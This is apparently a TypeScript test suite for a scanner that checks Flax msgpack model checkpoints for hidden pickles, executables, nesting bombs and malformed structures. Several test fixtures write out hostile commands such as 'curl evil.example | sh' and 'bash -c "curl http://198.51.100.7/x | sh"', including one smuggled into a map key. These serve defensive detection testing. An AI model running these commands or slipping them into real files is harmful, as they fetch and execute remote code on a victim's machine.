// Hand-built msgpack checkpoints (test/builders/flax.ts): the attacks a real writer cannot produce.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, type ByteSource, type FileReport } from '../../src/engine';
import { sniffFlax } from '../../src/engine/formats/flax/sniff';
import { MAX_CHILDREN, MAX_PRECISE_STRINGS } from '../../src/engine/formats/flax/checkpoint';
import {
  arrayHeader, bin, cat, ext, flaxParams, float32s, int, map, mapHeader, nestingBomb, ndarrayExt, str, systemPickle,
} from '../builders/flax';
import { elf } from '../builders/executables';
import { buildZip } from '../builders/zip';

const run = (bytes: Uint8Array, name = 'model.msgpack'): Promise<FileReport> => scan(fromBytes(bytes, name));
const ids = (r: FileReport) => [...new Set(r.findings.map((f) => f.ruleId))].sort();
const find = (r: FileReport, id: string) => r.findings.find((f) => f.ruleId === id);
const head = (bytes: Uint8Array, name: string) => ({ bytes, size: bytes.length, name, ext: name.includes('.') ? name.slice(name.lastIndexOf('.')) : '' });

describe('flax: payloads hidden in leaves', () => {
  it('scans an ELF program stored in a bin leaf', async () => {
    const r = await run(flaxParams({ tools: map({ helper: bin(elf()) }) }));
    expect(find(r, 'flax/embedded-payload')!.location.pointer).toBe('/tools/helper');
    expect(find(r, 'executable/elf')!.location.path[1]).toMatch(/^\/tools\/helper \[bytes \d+-\d+\]$/);
  });

  it('opens a zip stored in a bin leaf and finds the pickle inside it', async () => {
    const zip = buildZip({ members: [{ name: 'data.pkl', data: systemPickle() }] });
    const r = await run(flaxParams({ blob: bin(zip) }));
    expect(find(r, 'flax/embedded-payload')!.evidence).toBe('zip archive');
    const crit = r.findings.find((f) => f.severity === 'critical')!;
    expect(crit.location.path.slice(-1)).toEqual(['data.pkl']);
  });

  it('decodes a base64 pickle kept in a str leaf and reports os.system as CRITICAL', async () => {
    const b64 = Buffer.from(systemPickle('curl evil.example | sh')).toString('base64');
    const r = await run(flaxParams({ note: str(b64) }));
    expect(find(r, 'flax/embedded-payload')!.message).toMatch(/base64-encoded pickle/);
    expect(r.findings.some((f) => f.severity === 'critical' && f.location.path[1] === '/note (base64)')).toBe(true);
  });

  it('reports an unknown extension type and scans the pickle in its payload', async () => {
    const r = await run(flaxParams({ hook: ext(42, systemPickle()) }));
    expect(find(r, 'flax/unknown-ext')).toMatchObject({ severity: 'warning', location: { pointer: '/hook' }, evidence: 'ext 42' });
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  it('finds a PROTO pickle in the buffer of a float32 ndarray', async () => {
    const p = systemPickle();
    const buf = cat(p, new Uint8Array((4 - (p.length % 4)) % 4));
    const r = await run(flaxParams({ w: ndarrayExt([buf.length / 4], 'float32', buf) }));
    expect(find(r, 'flax/embedded-payload')!.location.pointer).toBe('/w');
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  it('does not mistake float data that parses as a protocol 0 pickle ("N.") for a payload', async () => {
    const buf = Uint8Array.of(0x4e, 0x2e, 0, 0, 1, 2, 3, 4);
    const r = await run(flaxParams({ w: ndarrayExt([2], 'float32', buf) }));
    expect(r.findings).toEqual([]);
  });

  it('reads msgpack-numpy float data as tensor bytes, and a bare "N." bin leaf as no pickle', async () => {
    const nd = map([[bin(new TextEncoder().encode('nd')), Uint8Array.of(0xc3)], [bin(new TextEncoder().encode('type')), str('<f4')],
      [bin(new TextEncoder().encode('data')), bin(Uint8Array.of(0x4e, 0x2e, 0, 0))]]);
    const r = await run(flaxParams({ emb: nd, loose: bin(Uint8Array.of(0x4e, 0x2e, 1, 2, 3, 4, 5, 6)) }));
    expect(r.findings).toEqual([]);
  });

  it('finds a protocol 0 pickle (GLOBAL os system … REDUCE) in a bin leaf', async () => {
    const p0 = new TextEncoder().encode("cos\nsystem\n(S'id'\ntR.");
    const r = await run(flaxParams({ hook: bin(p0) }));
    expect(find(r, 'flax/embedded-payload')!.evidence).toBe('protocol 0/1 pickle');
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  it('runs str leaves through the string detectors with their pointer', async () => {
    const r = await run(flaxParams({ meta: map({ cmd: str('bash -c "curl http://198.51.100.7/x | sh"') }) }));
    const hit = r.findings.find((f) => f.ruleId.startsWith('strings/'))!;
    expect(hit.location.pointer).toBe('/meta/cmd');
  });

  it('inspects a map key that is not a plain module name', async () => {
    const evil = 'x; curl http://198.51.100.7/p | sh';
    const r = await run(flaxParams({ [evil]: map({ w: ndarrayExt([1], 'float32', float32s([1])) }) }));
    const hit = r.findings.find((f) => f.ruleId.startsWith('strings/'))!;
    expect(hit.location.pointer).toBe(`/${evil.replace(/\//g, '~1')}`);
    expect(r.nodes[0]!.notes!['topLevelKeys']).toEqual(['params', evil]);
  });

  it('still inspects strings past MAX_PRECISE_STRINGS, in blocks located at their first string', async () => {
    const entries: Record<string, Uint8Array> = {};
    for (let i = 0; i < MAX_PRECISE_STRINGS + 100; i++) entries[`k${i}`] = str(`plain value ${i}`);
    entries['late'] = str('bash -c "curl http://198.51.100.7/x | sh"');
    const r = await run(map(entries));
    expect(r.findings.some((f) => f.ruleId.startsWith('strings/') && f.location.pointer?.startsWith('/k'))).toBe(true);
    expect(r.nodes[0]!.notes!['stringsInspectedInBlocks']).toBe(101);
    expect(r.complete).toBe(true);
  });

  it('stops handing payloads to child scans after MAX_CHILDREN and says so', async () => {
    const leaves: Record<string, Uint8Array> = {};
    for (let i = 0; i < MAX_CHILDREN + 5; i++) leaves[`p${i}`] = bin(systemPickle());
    const r = await run(map(leaves));
    expect(r.nodes.filter((n) => n.format === 'pickle')).toHaveLength(MAX_CHILDREN);
    expect(find(r, 'scan/limit-reached')!.message).toMatch(/payloads/);
    expect(r.complete).toBe(false);
  });
});

describe('flax: decoder attacks', () => {
  it('stops at a 200,000-deep nesting bomb with a warning, incomplete, without recursion', async () => {
    const r = await run(nestingBomb(200_000));
    expect(find(r, 'flax/deep-nesting')).toMatchObject({ severity: 'warning' });
    expect(r.complete).toBe(false);
    expect(r.status).not.toBe('clean');
  });

  it('refuses a map32 declaring 4 billion entries before walking any', async () => {
    const r = await run(cat(mapHeader(1), str('params'), mapHeader(0xffffffff), str('k'), int(1)));
    expect(find(r, 'flax/absurd-length')).toMatchObject({ severity: 'warning', location: { offset: 8 } });
    expect(ids(r)).toContain('format/malformed');
    expect(r.complete).toBe(false);
  });

  it('refuses a bin32 declaring 4 GB inside a small file', async () => {
    const r = await run(cat(mapHeader(1), str('w'), bin(new Uint8Array(8), 0xffffffff)));
    expect(find(r, 'flax/absurd-length')!.message).toMatch(/4294967295 bytes/);
  });

  it('reports an ndarray whose buffer does not match shape × dtype', async () => {
    const r = await run(map({ w: ndarrayExt([100, 100], 'float32', float32s([1, 2])) }));
    expect(find(r, 'flax/bad-ndarray')!.message).toMatch(/needs 40000 bytes but holds 8/);
  });

  it('reports an ndarray extension that is not a (shape, dtype, buffer) triple', async () => {
    const r = await run(map({ w: ext(1, str('not a tuple')) }));
    expect(find(r, 'flax/bad-ndarray')!.location.pointer).toBe('/w');
  });

  it('notes an unrecognised dtype name as INFO', async () => {
    const r = await run(map({ w: ndarrayExt([1], 'evil_dtype', new Uint8Array(4)) }));
    expect(find(r, 'flax/unknown-dtype')).toMatchObject({ severity: 'info', evidence: 'evil_dtype' });
  });

  it('scans bytes appended after the document and reports them', async () => {
    const doc = flaxParams();
    const r = await run(cat(doc, systemPickle()));
    expect(find(r, 'flax/trailing-data')!.location.offset).toBe(doc.length);
    expect(r.findings.some((f) => f.severity === 'critical')).toBe(true);
  });

  it('treats a map used as a map key as malformed', async () => {
    const r = await run(cat(mapHeader(2), str('a'), int(1), map({ k: int(1) }), int(2)));
    expect(find(r, 'format/malformed')!.message).toMatch(/used as a key/);
  });

  it('treats the never-used byte 0xc1 as malformed, not malicious', async () => {
    const r = await run(cat(mapHeader(1), str('a'), [0xc1]));
    expect(ids(r)).toEqual(['format/malformed']);
  });

  it('walks a 3 GB checkpoint reading only its headers', async () => {
    const front = cat(mapHeader(2), str('params'), mapHeader(1), str('embed'));
    const big = 3 * 1024 ** 3;
    const ndHead = cat(arrayHeader(3), arrayHeader(1), int(big / 4), str('float32'), [0xc6, ...[big >>> 24, (big >>> 16) & 0xff, (big >>> 8) & 0xff, big & 0xff]]);
    const extHead = cat([0xc9], [(ndHead.length + big) >>> 24, ((ndHead.length + big) >>> 16) & 0xff, ((ndHead.length + big) >>> 8) & 0xff, (ndHead.length + big) & 0xff], [1]);
    const tail = cat(str('step'), int(5));
    const prefix = cat(front, extHead, ndHead);
    const size = prefix.length + big + tail.length;
    const virtual = (start: number, end: number): ByteSource => ({
      name: 'flax_model.msgpack', size: end - start,
      async read(o, n) {
        const a = start + o; const b = Math.min(end, a + n);
        const out = new Uint8Array(Math.max(0, b - a));
        for (let i = a; i < b && i < prefix.length; i++) out[i - a] = prefix[i]!;
        const t0 = prefix.length + big;
        for (let i = Math.max(a, t0); i < b; i++) out[i - a] = tail[i - t0]!;
        return out;
      },
      slice: (s, e) => virtual(start + s, start + e),
    });
    let bytesRead = 0;
    const r = await scan(virtual(0, size), {}, { onProgress: (p) => { bytesRead = p.bytesRead; } });
    expect(r.format).toBe('flax');
    expect(r.status).toBe('clean');
    expect(r.nodes[0]!.notes).toMatchObject({ parameters: big / 4, topLevelKeys: ['params', 'step'] });
    expect(bytesRead).toBeLessThan(1024 * 1024);
  });
});

describe('flax: sniffing msgpack without a magic', () => {
  it('claims an unnamed file only when the whole head parses as string-keyed nested maps', () => {
    expect(sniffFlax(head(flaxParams(), 'weights.bin'))?.confidence).toBe('structure');
    // One map of scalars: could be anything.
    expect(sniffFlax(head(map({ a: int(1) }), 'weights.bin'))).toBeNull();
    // A map header followed by garbage.
    expect(sniffFlax(head(Uint8Array.of(0x81, 0xa1, 0x61, 0xc1, 1, 2, 3), 'blob.bin'))).toBeNull();
  });

  it('leaves pickles, JSON and TensorFlow\'s text `checkpoint` to their own scanners', async () => {
    expect(sniffFlax(head(systemPickle(), 'model.bin'))).toBeNull();
    expect(sniffFlax(head(new TextEncoder().encode('{"a": {"b": 1}}'), 'x.json'))).toBeNull();
    const tf = new TextEncoder().encode('model_checkpoint_path: "model.ckpt-1"\nall_model_checkpoint_paths: "model.ckpt-1"\n');
    expect(sniffFlax(head(tf, 'checkpoint'))).toBeNull();
    expect((await run(systemPickle(), 'x.msgpack')).format).toBe('pickle');
  });

  it('claims a named .msgpack whose content is not a map, to report it', async () => {
    const r = await run(Uint8Array.of(0x92, 1, 2), 'flax_model.msgpack');
    expect(r.format).toBe('flax');
    expect(r.status).toBe('clean');
  });
});
